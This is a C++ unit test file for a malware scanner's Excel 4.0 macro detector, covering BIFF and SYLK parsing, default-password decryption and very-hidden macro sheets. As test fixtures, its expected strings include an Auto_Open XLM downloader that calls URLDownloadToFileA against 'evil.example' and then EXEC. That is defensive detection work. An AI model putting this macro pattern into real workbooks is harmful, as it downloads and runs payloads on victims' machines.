// Excel 4.0 macros in BIFF8 workbooks: record walker, formula decoder,
// FILEPASS decryption with Excel's default password, and the detector end to
// end inside an OLE2 container built in code.
#include <gtest/gtest.h>

#include "formats/office_crypto/office_crypto.h"
#include "formats/xls/biff.h"
#include "emogate/scanner.h"
#include "office_fixtures.h"
#include "ole2_builder.h"

using namespace emogate;
using namespace emogate::test;

TEST(XlmBiff, VeryHiddenMacroSheetWithAutoOpenAndExec) {
  auto wb = biff8_workbook(2, true);
  auto r = xlm::analyse_workbook(wb.stream);
  EXPECT_EQ(r.biff, 8);
  EXPECT_TRUE(r.problems.empty()) << r.problems.front();
  ASSERT_EQ(r.xlm.sheets.size(), 1u);
  EXPECT_EQ(r.xlm.sheets[0].name, "Macro1");
  EXPECT_EQ(r.xlm.sheets[0].state, xlm::kVeryHidden);
  ASSERT_EQ(r.xlm.auto_names.size(), 1u);
  EXPECT_EQ(r.xlm.auto_names[0], "Auto_Open");
  EXPECT_TRUE(r.xlm.functions.count("EXEC"));
  EXPECT_TRUE(r.xlm.functions.count("CALL"));
  EXPECT_TRUE(r.xlm.functions.count("HALT"));
  EXPECT_TRUE(r.xlm.keywords.count("URLDownloadToFile"));
  const std::string& text = r.xlm.sheets[0].text;
  EXPECT_NE(text.find("R1C1: =EXEC(\"calc.exe\")"), std::string::npos) << text;
  EXPECT_NE(text.find("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
                      "\"http://evil.example/p.exe\",\"C:\\p.exe\",0,0)"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("R3C1: \"hello\""), std::string::npos) << text;
  EXPECT_NE(r.xlm.names_text.find("Name Auto_Open: =SHEET#0!R1C1"), std::string::npos);
}

TEST(XlmBiff, VisibleMacroSheetWithoutAutoOpen) {
  auto r = xlm::analyse_workbook(biff8_workbook(0, false).stream);
  ASSERT_EQ(r.xlm.sheets.size(), 1u);
  EXPECT_EQ(r.xlm.sheets[0].state, xlm::kVisible);
  EXPECT_TRUE(r.xlm.auto_names.empty());
}

TEST(XlmBiff, WorkbookWithoutMacroSheetHasNone) {
  // Turn the macro sheet into a worksheet: BOUNDSHEET dt 0, BOF dt 0x10.
  auto wb = biff8_workbook(0, false);
  std::string s = wb.stream;
  std::size_t macro_bof = s.find(std::string("\x09\x08\x10\x00\x00\x06\x40\x00", 8));
  ASSERT_NE(macro_bof, std::string::npos);
  s[macro_bof + 6] = 0x10;
  std::size_t bs = s.find("Macro1");
  s[bs - 3] = 0;  // dt
  auto r = xlm::analyse_workbook(s);
  EXPECT_TRUE(r.xlm.sheets.empty());
}

TEST(XlmBiff, AutoOpenNameVariantsAreRecognised) {
  EXPECT_TRUE(xlm::auto_exec_name("Auto_Open"));
  EXPECT_TRUE(xlm::auto_exec_name("aUTO_oPEN21"));
  EXPECT_TRUE(xlm::auto_exec_name("_xlnm.Auto_Open"));
  EXPECT_TRUE(xlm::auto_exec_name("Auto_Close"));
  EXPECT_FALSE(xlm::auto_exec_name("Print_Area"));
  EXPECT_FALSE(xlm::auto_exec_name("AutoOpen"));
}

class XlmEncrypted : public ::testing::TestWithParam<bool> {};

TEST_P(XlmEncrypted, DefaultPasswordIsDecrypted) {
  const bool cryptoapi = GetParam();
  std::string fp = xlm::make_filepass(cryptoapi, office_crypto::kExcelDefaultPassword, "0123456789abcdef",
                                      "fedcba9876543210");
  auto wb = biff8_workbook(2, true, fp);
  std::string ks = xlm::biff_keystream(fp, office_crypto::kExcelDefaultPassword, wb.stream.size());
  ASSERT_EQ(ks.size(), wb.stream.size());
  std::string enc = xlm::xor_records(wb.stream, wb.filepass_end, ks);
  ASSERT_NE(enc, wb.stream);
  EXPECT_EQ(enc.find("calc.exe"), std::string::npos);
  auto r = xlm::analyse_workbook(enc);
  EXPECT_EQ(r.encryption, cryptoapi ? xlm::Encryption::rc4_cryptoapi : xlm::Encryption::rc4);
  EXPECT_TRUE(r.decrypted);
  EXPECT_EQ(r.decrypted_stream, wb.stream);
  ASSERT_EQ(r.xlm.sheets.size(), 1u);
  EXPECT_EQ(r.xlm.sheets[0].state, xlm::kVeryHidden);
  EXPECT_TRUE(r.xlm.functions.count("EXEC"));
  EXPECT_EQ(r.xlm.auto_names.size(), 1u);
}

TEST_P(XlmEncrypted, OtherPasswordStaysOpaqueButMacroSheetIsSeen) {
  const bool cryptoapi = GetParam();
  std::string fp = xlm::make_filepass(cryptoapi, "secret", "0123456789abcdef", "fedcba9876543210");
  EXPECT_TRUE(xlm::biff_keystream(fp, office_crypto::kExcelDefaultPassword, 100).empty());
  EXPECT_EQ(xlm::biff_keystream(fp, "secret", 100).size(), 100u);
  auto wb = biff8_workbook(2, true, fp);
  std::string enc = xlm::xor_records(wb.stream, wb.filepass_end, xlm::biff_keystream(fp, "secret", wb.stream.size()));
  auto r = xlm::analyse_workbook(enc);
  EXPECT_FALSE(r.decrypted);
  EXPECT_NE(r.encryption, xlm::Encryption::none);
  // BOF records stay in clear text, so the macro-sheet substream shows.
  ASSERT_EQ(r.xlm.sheets.size(), 1u);
  EXPECT_EQ(r.xlm.sheets[0].state, -1);
}

INSTANTIATE_TEST_SUITE_P(Rc4AndCryptoApi, XlmEncrypted, ::testing::Bool());

TEST(XlmFormula, DecodesOperatorsNumbersAndReferences) {
  std::string rgce = u8(0x1E) + u16(2) + u8(0x1F) + std::string("\0\0\0\0\0\0\x04\x40", 8) +
                     u8(0x03) + u8(0x24) + u16(4) + u16(2) + u8(0x05) + u8(0x15);
  EXPECT_EQ(xlm::decode_formula(rgce, 8, {}, nullptr), "(2+2.5*R5C3)");
  std::string chars = u8(0x1E) + u16(61) + u8(0x41) + u16(111) + u8(0x1E) + u16(69) + u8(0x41) +
                      u16(111) + u8(0x08);
  EXPECT_EQ(xlm::decode_formula(chars, 8, {}, nullptr), "CHAR(61)&CHAR(69)");
  std::set<std::string> fns;
  // FORMULA is a command equivalent (Cetab 96, fCeFunc bit set).
  std::string formula = ptg_str("=EXEC(1)") + u8(0x24) + u16(0) + u16(0) + ptg_funcvar(2, 0x8000 | 96);
  EXPECT_EQ(xlm::decode_formula(formula, 8, {}, &fns), "FORMULA(\"=EXEC(1)\",R1C1)");
  EXPECT_TRUE(fns.count("FORMULA"));
}

TEST(XlmFormula, HostileTokensStayBounded) {
  // Truncated token, unknown token and 20000 nested parentheses.
  EXPECT_NE(xlm::decode_formula(u8(0x17) + u8(200) + u8(0) + "abc", 8, {}, nullptr).find("truncated"),
            std::string::npos);
  EXPECT_NE(xlm::decode_formula(u8(0x1A), 8, {}, nullptr).find("<ptg 0x1A>"), std::string::npos);
  std::string parens = ptg_str("x") + std::string(20000, '\x15');
  EXPECT_LE(xlm::decode_formula(parens, 8, {}, nullptr).size(), 2100u);
  std::string underflow = std::string(50, '\x03');
  EXPECT_FALSE(xlm::decode_formula(underflow, 8, {}, nullptr).empty());
}

TEST(XlmBiff, SstStringSplitAcrossContinueResolves) {
  // SST with one string whose characters continue in a CONTINUE record that
  // switches to 16-bit characters.
  std::string sst = biff(0x00FC, u32(1) + u32(1) + u16(6) + u8(0) + "EXE") +
                    biff(0x003C, u8(1) + utf16("C()"));
  auto bof = [](std::uint16_t dt) { return biff(0x0809, u16(0x0600) + u16(dt) + std::string(12, '\0')); };
  std::string macro = bof(0x0040) + biff(0x00FD, u16(0) + u16(0) + u16(15) + u32(0)) + biff(0x000A, "");
  std::string stream = bof(0x0005) + sst + biff(0x000A, "") + macro;
  auto r = xlm::analyse_workbook(stream);
  ASSERT_EQ(r.xlm.sheets.size(), 1u);
  EXPECT_NE(r.xlm.sheets[0].text.find("R1C1: \"EXEC()\""), std::string::npos) << r.xlm.sheets[0].text;
}

TEST(XlmBiff, TruncatedAndGarbageStreamsDoNotCrash) {
  auto wb = biff8_workbook(2, true);
  for (std::size_t cut : {std::size_t(3), std::size_t(30), wb.stream.size() / 2, wb.stream.size() - 1}) {
    auto r = xlm::analyse_workbook(std::string_view(wb.stream).substr(0, cut));
    (void)r;
  }
  auto r = xlm::analyse_workbook(std::string(4096, '\xFF'));
  EXPECT_EQ(r.biff, 0);
  EXPECT_TRUE(r.xlm.sheets.empty());
}

TEST(XlmDetector, XlsWithVeryHiddenExecSheetIsMalicious) {
  Ole2Builder b;
  b.add("Workbook", biff8_workbook(2, true).stream);
  Scanner s(Config{});
  auto rep = s.scan_file(b.build(), "invoice.xls");
  const Finding* f = find_finding(rep, FindingType::xlm_macro);
  ASSERT_TRUE(f) << to_json(rep);
  EXPECT_EQ(f->path, "invoice.xls");
  EXPECT_EQ(f->verdict, Verdict::malicious);
  EXPECT_NE(f->detail.find("sheet 'Macro1' very hidden"), std::string::npos) << f->detail;
  EXPECT_NE(f->detail.find("EXEC"), std::string::npos);
  EXPECT_NE(f->detail.find("Auto_Open"), std::string::npos);
  EXPECT_EQ(rep.verdict, Verdict::malicious);
  const ObjectSummary* text = find_object(rep, "invoice.xls/Workbook/XLM/Macro1.txt");
  ASSERT_NE(text, nullptr) << to_json(rep);
  EXPECT_TRUE(text->derived);
  EXPECT_EQ(text->type, "xlm_formulas");
}

TEST(XlmDetector, HiddenSheetWithoutAutoOpenIsSuspicious) {
  Ole2Builder b;
  b.add("Workbook", biff8_workbook(1, false).stream);
  auto rep = Scanner(Config{}).scan_file(b.build(), "report.xls");
  const Finding* f = find_finding(rep, FindingType::xlm_macro);
  ASSERT_TRUE(f);
  EXPECT_EQ(f->verdict, Verdict::suspicious);
  EXPECT_NE(f->detail.find("hidden"), std::string::npos);
}

TEST(XlmDetector, EncryptedWorkbookReportsEncryptionAndMacro) {
  std::string fp = xlm::make_filepass(false, office_crypto::kExcelDefaultPassword, "0123456789abcdef", "fedcba9876543210");
  auto wb = biff8_workbook(2, true, fp);
  std::string enc = xlm::xor_records(wb.stream, wb.filepass_end,
                                     xlm::biff_keystream(fp, office_crypto::kExcelDefaultPassword, wb.stream.size()));
  Ole2Builder b;
  b.add("Workbook", enc);
  auto rep = Scanner(Config{}).scan_file(b.build(), "enc.xls");
  EXPECT_TRUE(has_finding(rep, FindingType::encrypted_document, {.detail = "default password"})) << to_json(rep);
  EXPECT_TRUE(has_finding(rep, FindingType::xlm_macro, {.detail = "very hidden"}));
}

TEST(XlmSylk, AutoOpenAndMacroFunctionsMakeAMacroSheet) {
  std::string slk = "ID;PWXL;N;E\r\nNN;NAuto_Open;ER1C1\r\nC;Y1;X1;EEXEC(\"cmd /c a;;b\")\r\nC;Y2;EHALT()\r\nE\r\n";
  ASSERT_TRUE(xlm::is_sylk(slk));
  auto s = xlm::parse_sylk(slk);
  ASSERT_EQ(s.sheets.size(), 1u);
  EXPECT_EQ(s.auto_names, std::vector<std::string>{"Auto_Open"});
  EXPECT_TRUE(s.functions.count("EXEC"));
  EXPECT_NE(s.sheets[0].text.find("R1C1: =EXEC(\"cmd /c a;b\")"), std::string::npos) << s.sheets[0].text;
  auto rep = Scanner(Config{}).scan_file(slk, "x.slk");
  EXPECT_TRUE(has_finding(rep, FindingType::xlm_macro, {.detail = "Auto_Open"})) << to_json(rep);
  // An ordinary SYLK sheet (CHAR is a worksheet function too) is not a macro.
  EXPECT_TRUE(xlm::parse_sylk("ID;PWXL\nC;Y1;X1;ECHAR(65)&SUM(A1:A3)\nE\n").sheets.empty());
}

TEST(XlmBiff, Biff5BoundSheetNameAndFormulas) {
  // BIFF5: byte strings without the high-byte flag, 14-byte PtgName tail.
  auto bof = [](std::uint16_t dt) { return biff(0x0809, u16(0x0500) + u16(dt) + std::string(4, '\0')); };
  auto sheet = [](std::uint32_t pos, const std::string& n) {
    return biff(0x0085, u32(pos) + u8(1) + u8(1) + u8(std::uint8_t(n.size())) + n);
  };
  std::string rgce = u8(0x3A) + std::string(14, '\0') + u16(0) + u8(0);  // PtgRef3d, BIFF5 layout
  std::string name = biff(0x0018, u16(0x0020) + u8(0) + u8(1) + u16(std::uint16_t(rgce.size())) +
                                      u16(0) + u16(0) + std::string(4, '\0') + u8(1) + rgce);
  std::string call = u8(0x17) + u8(4) + "calc" + u8(0x42) + u8(1) + u16(110);
  std::string macro = bof(0x0040) + formula_cell(0, 0, call) + biff(0x000A, "");
  std::size_t globals = bof(5).size() + sheet(0, "Macro1").size() + name.size() + 4;
  std::string stream = bof(5) + sheet(std::uint32_t(globals), "Macro1") + name + biff(0x000A, "") + macro;
  auto r = xlm::analyse_workbook(stream);
  EXPECT_EQ(r.biff, 5);
  ASSERT_EQ(r.xlm.sheets.size(), 1u);
  EXPECT_EQ(r.xlm.sheets[0].name, "Macro1");
  EXPECT_EQ(r.xlm.sheets[0].state, xlm::kHidden);
  EXPECT_EQ(r.xlm.auto_names, std::vector<std::string>{"Auto_Open"});
  EXPECT_NE(r.xlm.sheets[0].text.find("R1C1: =EXEC(\"calc\")"), std::string::npos) << r.xlm.sheets[0].text;
}

TEST(XlmDetector, TruncatedWorkbookIsMalformedButStillAnalysed) {
  std::string wb = biff8_workbook(2, true).stream;
  wb.resize(wb.size() - 6);  // drop the final EOF and the last formula's tail
  auto r = xlm::analyse_workbook(wb);
  ASSERT_FALSE(r.problems.empty());
  EXPECT_NE(r.problems.front().find("runs past the end"), std::string::npos) << r.problems.front();
  Ole2Builder b;
  b.add("Workbook", wb);
  auto rep = Scanner(Config{}).scan_file(b.build(), "cut.xls");
  EXPECT_TRUE(has_finding(rep, FindingType::malformed, {.detail = "BIFF: record 0x"})) << to_json(rep);
  EXPECT_TRUE(has_finding(rep, FindingType::xlm_macro, {.detail = "very hidden"}));
}
